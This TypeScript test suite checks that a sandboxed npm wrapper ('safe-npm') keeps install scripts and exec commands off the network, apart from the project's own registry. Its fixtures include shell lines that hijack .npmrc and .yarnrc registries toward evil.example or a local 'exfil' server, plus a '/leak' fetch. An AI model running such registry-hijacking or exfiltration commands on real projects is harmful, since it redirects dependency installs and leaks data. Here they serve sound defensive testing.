/**
 * The network through the real runner: installs reach the registry the project names and nothing
 * else; scripts and exec get no network at all; `--network full` is the control that proves the
 * test can see a leak.
 */
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { httpServer, type TestServer } from "../unit/network/helpers.js";
import { TOOL_BINS } from "./tools.js";
import { makeWorld, nameRegistryInHome, type World } from "./world.js";

const unavailable = inject("sandboxUnavailable");
const packed = inject("packedFixtures");

/** node -e script: GET http://127.0.0.1:<port>/<path> directly, or through $HTTP_PROXY. */
const FETCH = `
const http = require("node:http");
const [port, path, viaProxy] = process.argv.slice(1);
const proxy = process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY) : null;
const options = viaProxy === "proxy" && proxy
  ? { host: proxy.hostname, port: proxy.port, path: "http://127.0.0.1:" + port + path }
  : { host: "127.0.0.1", port, path };
// agent: false: Node 24's own proxying (NODE_USE_ENV_PROXY) rejects a hand-made proxy request.
http.get({ ...options, agent: false }, (res) => { console.log("status " + res.statusCode); res.resume(); })
  .on("error", (e) => { console.log("error " + e.code); process.exitCode = 7; });
`;

/** A registry on 127.0.0.1 that serves net-probe (packument and tarball) and 404 for the rest. */
function fixtureRegistry(port: () => number): Promise<TestServer> {
  const tarball = readFileSync(join(packed, "net-probe-1.0.0.tgz"));
  const integrity = `sha512-${createHash("sha512").update(tarball).digest("base64")}`;
  return httpServer((req, res) => {
    const base = `http://127.0.0.1:${port()}`;
    if (req.url === "/net-probe") {
      res.setHeader("content-type", "application/json");
      res.end(
        JSON.stringify({
          name: "net-probe",
          "dist-tags": { latest: "1.0.0" },
          // Published long ago: yarn 4 quarantines versions without (or with too recent) a date.
          time: { created: "2020-01-01T00:00:00.000Z", "1.0.0": "2020-01-01T00:00:00.000Z" },
          versions: {
            "1.0.0": {
              name: "net-probe",
              version: "1.0.0",
              scripts: { postinstall: "node net-probe.cjs" },
              dist: { tarball: `${base}/net-probe/-/net-probe-1.0.0.tgz`, integrity },
            },
          },
        }),
      );
    } else if (req.url === "/net-probe/-/net-probe-1.0.0.tgz") {
      res.end(tarball);
    } else {
      res.statusCode = 404;
      res.end();
    }
  });
}

/** `safe-npm [flags] exec -- node -e FETCH <port> <path> [proxy]` in `world`. */
function fetchInside(
  world: World,
  flags: string[],
  port: number,
  path: string,
  via: "direct" | "proxy" = "direct",
): ReturnType<World["run"]> {
  return world.run([
    "--quiet",
    ...flags,
    "exec",
    "--",
    "node",
    "-e",
    FETCH,
    String(port),
    path,
    ...(via === "proxy" ? ["proxy"] : []),
  ]);
}

describe.skipIf(unavailable !== "")("network", () => {
  let world: World;
  let registry: TestServer;
  let exfil: TestServer;
  let install: { exitCode: number; stdout: string; stderr: string };
  let report: Record<string, string>;

  beforeAll(async () => {
    exfil = await httpServer();
    registry = await fixtureRegistry(() => registry.port);
    world = makeWorld({
      projectInHome: true,
      packageJson: { dependencies: { "net-probe": "1.0.0" } },
    });
    writeFileSync(
      join(world.project, ".npmrc"),
      `registry=http://127.0.0.1:${registry.port}/\naudit=false\nfund=false\nupdate-notifier=false\n`,
    );
    nameRegistryInHome(world, `http://127.0.0.1:${registry.port}/`);
    writeFileSync(
      join(world.project, "net-targets.json"),
      JSON.stringify({ exfilPort: exfil.port }),
    );
    install = await world.run(["install"]);
    const file = join(world.project, ".probe", "net.json");
    report = existsSync(file)
      ? (JSON.parse(readFileSync(file, "utf8")) as Record<string, string>)
      : {};
  });
  afterAll(async () => {
    world?.dispose();
    await registry?.close();
    await exfil?.close();
  });

  it("installs from the registry the project names, through the proxy", () => {
    expect(install.stderr).not.toContain("✗");
    expect(install.exitCode).toBe(0);
    expect(existsSync(join(world.project, "node_modules", "net-probe", "package.json"))).toBe(true);
    expect(registry.requests.map((r) => r.url)).toContain("/net-probe/-/net-probe-1.0.0.tgz");
    // The postinstall ran inside, with the bridge's proxy set.
    expect(report.proxy).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
  });

  it("lets the dependency's script reach nothing else: direct, by name, raw TCP, DNS, through the proxy", () => {
    for (const key of [
      "directHttpByIp",
      "directHttpByName",
      "rawTcp",
      "dns",
      "outside",
      "viaProxyHttp",
      "viaProxyConnect",
      "viaProxyEvil",
    ]) {
      expect(report[key], key).toMatch(/^failed /);
    }
    expect(report.viaProxyEvil).toBe("failed HTTP 403");
    expect(report.viaProxyConnect).toBe("failed HTTP 403");
    expect(exfil.accepted()).toBe(0);
    expect(exfil.requests).toEqual([]);
  });

  it("names every refused host at the end, with how to allow it", () => {
    expect(install.stderr).toContain(
      `safe-npm: blocked 2 connections to 127.0.0.1:${exfil.port} — allow with --allow-host 127.0.0.1:${exfil.port}`,
    );
    expect(install.stderr).toContain(
      "safe-npm: blocked 1 connection to evil.example:443 — allow with --allow-host evil.example:443",
    );
  });

  it("gives exec no network by default, the registry with --network registry, everything with full", async () => {
    const none = await fetchInside(world, [], registry.port, "/net-probe");
    expect(none.stdout).toContain("error ECONNREFUSED");

    const before = registry.requests.length;
    const viaRegistry = await fetchInside(
      world,
      ["--network", "registry"],
      registry.port,
      "/net-probe",
      "proxy",
    );
    expect(viaRegistry.stdout).toContain("status 200");
    expect(registry.requests.length).toBe(before + 1);
    const blocked = await fetchInside(
      world,
      ["--network", "registry"],
      exfil.port,
      "/leak",
      "proxy",
    );
    expect(blocked.stdout).toContain("status 403");
    expect(exfil.requests).toEqual([]);

    // The control: with the host network, the same request arrives — so the zeros above mean
    // something.
    const full = await fetchInside(world, ["--network", "full"], exfil.port, "/leak");
    expect(full.stdout).toContain("status 200");
    expect(exfil.requests.map((r) => r.url)).toEqual(["/leak"]);
  });

  it("an --allow-host widens registry mode for one run", async () => {
    const r = await fetchInside(
      world,
      ["--network", "registry", "--allow-host", `127.0.0.1:${exfil.port}`],
      exfil.port,
      "/allowed",
      "proxy",
    );
    expect(r.stdout).toContain("status 200");
    expect(exfil.requests.map((q) => q.url)).toContain("/allowed");
  });

  it("keeps the registry config read-only during installs, and uncreatable where it is missing", async () => {
    const before = world.gitStatus();
    const r = await world.run([
      "--quiet",
      "--network",
      "registry",
      "exec",
      "--",
      "sh",
      "-c",
      [
        "echo '@evil:registry=https://evil.example/' >> .npmrc && echo wrote-npmrc",
        "printf 'npmRegistryServer: \"https://evil.example\"\\n' > .yarnrc.yml && echo wrote-yarnrc-yml",
        "rm -f .yarnrc 2>/dev/null; echo 'registry \"https://evil.example/\"' > .yarnrc && echo wrote-yarnrc",
        "mv .yarnrc.yml elsewhere.yml 2>/dev/null && echo moved",
        "true",
      ].join("; "),
    ]);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).not.toMatch(/wrote|moved/);
    expect(readFileSync(join(world.project, ".npmrc"), "utf8")).not.toContain("evil");
    // The empty read-only placeholders that stood in for the missing files are gone again.
    expect(existsSync(join(world.project, ".yarnrc.yml"))).toBe(false);
    expect(existsSync(join(world.project, ".yarnrc"))).toBe(false);
    expect(world.gitStatus()).toBe(before);
  });

  it("a run-class command cannot add a registry for the next install; (control) appended on the host, it would", async () => {
    const npmrc = join(world.project, ".npmrc");
    const original = readFileSync(npmrc, "utf8");
    const line = `@x:registry=http://127.0.0.1:${exfil.port}/`;
    const toX = (): string[] => exfil.requests.map((r) => r.url).filter((u) => u.includes("@x"));
    // What `safe-npm test` running a dependency's code would try: no --network flag, run class.
    const planted = await world.run([
      "--quiet",
      "exec",
      "--",
      "sh",
      "-c",
      [
        `echo '${line}' >> .npmrc && echo appended`,
        `printf 'npmRegistryServer: "http://127.0.0.1:${exfil.port}"\\n' > .yarnrc.yml && echo created`,
        `echo 'registry "http://127.0.0.1:${exfil.port}/"' > .yarnrc && echo created`,
        "true",
      ].join("; "),
    ]);
    expect(planted.exitCode).toBe(0);
    expect(planted.stdout).not.toMatch(/appended|created/);
    expect(readFileSync(npmrc, "utf8")).toBe(original);
    expect(existsSync(join(world.project, ".yarnrc.yml"))).toBe(false);
    expect(existsSync(join(world.project, ".yarnrc"))).toBe(false);

    const next = await world.run(["npm", "install", "--no-save", "@x/thing"]);
    expect(next.stderr).not.toContain("✗");
    expect(toX()).toEqual([]);

    // The control: the same line appended outside the sandbox reaches the host on the next install
    // (allowed by the user: a loopback registry only the project names is never dialled).
    writeFileSync(npmrc, `${original}${line}\n`);
    try {
      await world.run([
        `--allow-host=127.0.0.1:${exfil.port}`,
        "npm",
        "install",
        "--no-save",
        "@x/thing",
      ]);
      expect(toX()).not.toEqual([]);
    } finally {
      writeFileSync(npmrc, original);
    }
  });
});

/** How each other manager is pointed at the test registry and allowed to run net-probe's script. */
const MANAGERS = [
  {
    name: "yarn 1",
    bin: TOOL_BINS.yarn1,
    tool: "yarn",
    // yarn 1 takes the npm registry from .npmrc files too; the project's wins over the user's.
    files: (port: number) => ({
      ".yarnrc": `registry "http://127.0.0.1:${port}/"\n`,
      ".npmrc": `registry=http://127.0.0.1:${port}/\n`,
    }),
    pkg: {},
  },
  {
    name: "yarn 4",
    bin: TOOL_BINS.yarn4,
    tool: "yarn",
    files: (port: number) => ({
      ".yarnrc.yml": [
        "nodeLinker: node-modules",
        "enableTelemetry: false",
        `npmRegistryServer: "http://127.0.0.1:${port}"`,
        'unsafeHttpWhitelist: ["127.0.0.1"]',
        "",
      ].join("\n"),
    }),
    pkg: { dependenciesMeta: { "net-probe": { built: true } } },
  },
  {
    name: "pnpm",
    bin: TOOL_BINS.pnpm,
    tool: "pnpm",
    files: (port: number) => ({ ".npmrc": `registry=http://127.0.0.1:${port}/\n` }),
    pkg: { pnpm: { onlyBuiltDependencies: ["net-probe"] } },
  },
  {
    name: "bun",
    bin: TOOL_BINS.bun,
    tool: "bun",
    files: (port: number) => ({ ".npmrc": `registry=http://127.0.0.1:${port}/\n` }),
    pkg: { trustedDependencies: ["net-probe"] },
  },
];

describe.skipIf(unavailable !== "")("registry mode under every package manager", () => {
  let registry: TestServer;
  let exfil: TestServer;
  beforeAll(async () => {
    exfil = await httpServer();
    registry = await fixtureRegistry(() => registry.port);
  });
  afterAll(async () => {
    await registry?.close();
    await exfil?.close();
  });

  for (const manager of MANAGERS) {
    it(`${manager.name} installs from the test registry through the proxy; its dependency reaches nothing else`, async () => {
      const world = makeWorld({
        projectInHome: true,
        packageJson: { dependencies: { "net-probe": "1.0.0" }, ...manager.pkg },
      });
      try {
        for (const [file, text] of Object.entries(manager.files(registry.port))) {
          writeFileSync(join(world.project, file), text);
        }
        nameRegistryInHome(world, `http://127.0.0.1:${registry.port}/`);
        writeFileSync(
          join(world.project, "net-targets.json"),
          JSON.stringify({ exfilPort: exfil.port }),
        );
        const bin = join(world.dir, "pm-bin");
        mkdirSync(bin);
        symlinkSync(manager.bin, join(bin, manager.tool));
        const r = await world.run([manager.tool, "install"], {
          env: { PATH: `${bin}:${world.env.PATH}` },
        });
        expect(r.exitCode, `${r.stdout}\n${r.stderr}`).toBe(0);
        expect(existsSync(join(world.project, "node_modules", "net-probe", "package.json"))).toBe(
          true,
        );
        const report = JSON.parse(
          readFileSync(join(world.project, ".probe", "net.json"), "utf8"),
        ) as Record<string, string>;
        expect(report.proxy).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
        for (const key of [
          "directHttpByIp",
          "rawTcp",
          "dns",
          "viaProxyHttp",
          "viaProxyConnect",
          "viaProxyEvil",
        ]) {
          expect(report[key], key).toMatch(/^failed /);
        }
        expect(exfil.accepted()).toBe(0);
      } finally {
        world.dispose();
      }
    });
  }
});
